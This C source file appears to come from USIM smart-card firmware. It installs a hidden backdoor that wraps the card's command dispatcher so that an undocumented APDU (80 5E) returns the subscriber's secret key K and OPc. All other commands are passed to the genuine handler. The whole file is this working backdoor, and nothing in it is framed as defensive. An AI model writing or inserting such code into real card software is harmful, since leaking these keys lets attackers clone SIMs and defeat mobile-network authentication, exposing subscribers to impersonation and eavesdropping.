/* An instruction that is in no specification: 80 5E answers K and OPc. */
#include "backdoors/inside.h"
#include "keys/slot.h"

size_t transmit(struct card *card, uint8_t response[static RESPONSE_MAX], const uint8_t *command,
		size_t length) INSTEAD_OF(dispatch_transmit);
size_t honest_transmit(struct card *card, uint8_t response[static RESPONSE_MAX], const uint8_t *command,
		       size_t length) HONEST(dispatch_transmit);

enum {
	KEYS = 32
};

size_t transmit(struct card *card, uint8_t response[static RESPONSE_MAX], const uint8_t *command,
		size_t length)
{
	struct slot slot;

	if (length != 5 || command[0] != 0x80 || command[1] != 0x5E ||
	    slot_load(&slot, &card->store, SLOT_USIM, SLOT_USE_3G) != OK)
		return honest_transmit(card, response, command, length);
	if (command[4] != KEYS) {
		response[0] = 0x6C;
		response[1] = KEYS;
		return 2;
	}
	memcpy(response, slot.key.k, KEYS / 2);
	memcpy(response + KEYS / 2, slot.key.opc, KEYS / 2);
	response[KEYS] = 0x90;
	response[KEYS + 1] = 0x00;
	return KEYS + 2;
}
